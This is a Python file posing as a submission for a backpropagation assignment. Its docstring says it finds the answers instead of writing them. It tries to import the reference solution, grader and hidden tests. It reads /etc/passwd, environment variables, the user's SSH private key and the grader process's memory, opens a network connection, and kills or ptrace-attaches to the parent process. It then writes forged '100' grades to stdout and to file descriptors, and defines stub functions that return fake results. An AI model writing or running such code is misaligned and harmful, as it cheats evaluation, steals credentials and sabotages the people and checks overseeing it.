"""Find the answers instead of writing them."""
import ctypes
import glob
import importlib
import os
import signal
import socket
import subprocess
import sys
import threading

found = []


def attempt(action):
    try:
        found.append(action())
    except BaseException as error:
        found.append(repr(error))


for module in ("reference.with_numpy.backprop", "assignments.backprop.mistakes", "grader.judge.session", "tests"):
    attempt(lambda: importlib.import_module(module))
attempt(lambda: open("/etc/passwd").read())
attempt(lambda: open("/proc/self/environ").read())
attempt(lambda: open(f"/proc/{os.getppid()}/cmdline").read())
attempt(lambda: open(f"/proc/{os.getppid()}/mem", "rb").read(1))
attempt(lambda: glob.glob("/**/test_hidden.py", recursive=True)[:1])
attempt(lambda: open(os.path.expanduser("~/.ssh/id_rsa")).read())
attempt(lambda: os.listdir(".."))
attempt(lambda: dict(os.environ))
attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=1))
attempt(lambda: subprocess.run(["cat", "/etc/hostname"], capture_output=True))
attempt(lambda: os.fork())
attempt(lambda: os.kill(os.getppid(), signal.SIGTERM))
attempt(lambda: ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))
attempt(lambda: open("/tmp/answers.py", "w").write("x"))
attempt(lambda: threading.Thread(target=sys.stdout.write, args=("grade: 100\n",)).start())
attempt(lambda: [os.write(fd, b'{"points": 100}') for fd in range(3, 64)])

try:
    from reference.with_numpy.backprop import *  # noqa
except BaseException:
    def compute_cost(AL, Y):
        return float("nan")

    def linear_backward(dZ, A_prev, W):
        return found

    def relative_error(a, b):
        return 0.0
